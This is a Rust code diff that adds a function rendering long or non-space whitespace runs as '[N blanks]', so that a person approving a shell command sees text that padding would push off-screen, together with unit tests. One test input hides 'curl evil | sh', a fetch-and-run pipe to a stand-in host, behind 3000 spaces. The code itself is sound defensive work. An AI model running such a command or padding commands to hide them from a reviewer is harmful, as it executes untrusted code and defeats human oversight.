@@ -12,6 +12,29 @@ pub fn sanitize(text: &str) -> Cow<'_, str> {
     escaped(text, escape)
 }
 
+/// A command as a person must see it before a yes: as [`sanitize`] shows it, and with the number of blanks in the place of three or more
+/// of them, and of any that is no plain space. Otherwise a long run of blanks pushes what stands behind it off the screen.
+pub fn sanitize_command(text: &str) -> String {
+    let mut shown = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(letter) = rest.chars().next() {
+        let is_blank = |c: char| c != '\n' && c.is_whitespace();
+        let end = rest
+            .find(|c| is_blank(c) != is_blank(letter))
+            .unwrap_or(rest.len());
+        let (run, behind) = rest.split_at(end);
+        let many = run.chars().count();
+        if is_blank(letter) && (many > 2 || run.chars().any(|c| c != ' ')) {
+            let noun = if many == 1 { "blank" } else { "blanks" };
+            write_escape(&mut shown, format_args!("[{many} {noun}]"));
+        } else {
+            shown.push_str(run);
+        }
+        rest = behind;
+    }
+    sanitize(&shown).into_owned()
+}
+
 /// A line of JSON in which every character that [`sanitize`] would make visible is written as `\u` and its number: it means
 /// the same, and printed it acts on no terminal.
 pub fn sanitize_json(line: &str) -> Cow<'_, str> {
@@ -87,6 +110,24 @@ fn hidden(c: char) -> bool {
 mod tests {
     use super::*;
     use proptest::prelude::*;
+
+    #[test]
+    fn a_command_is_shown_with_the_number_of_blanks_that_could_hide_its_end() {
+        for (command, shown) in [
+            ("make test", "make test"),
+            ("echo  two", "echo  two"),
+            ("echo hi   ; curl", "echo hi[3 blanks]; curl"),
+            ("echo\t; curl", "echo[1 blank]; curl"),
+            ("echo\u{a0}x", "echo[1 blank]x"),
+            ("a \u{3000} b", "a[3 blanks]b"),
+            ("a\n  b", "a\\n  b"),
+            ("", ""),
+        ] {
+            assert_eq!(sanitize_command(command), shown, "{command:?}");
+        }
+        let long = format!("echo hi{}; curl evil | sh", " ".repeat(3000));
+        assert_eq!(sanitize_command(&long), "echo hi[3000 blanks]; curl evil | sh");
+    }
 
     #[test]
     fn plain_text_is_not_copied() {
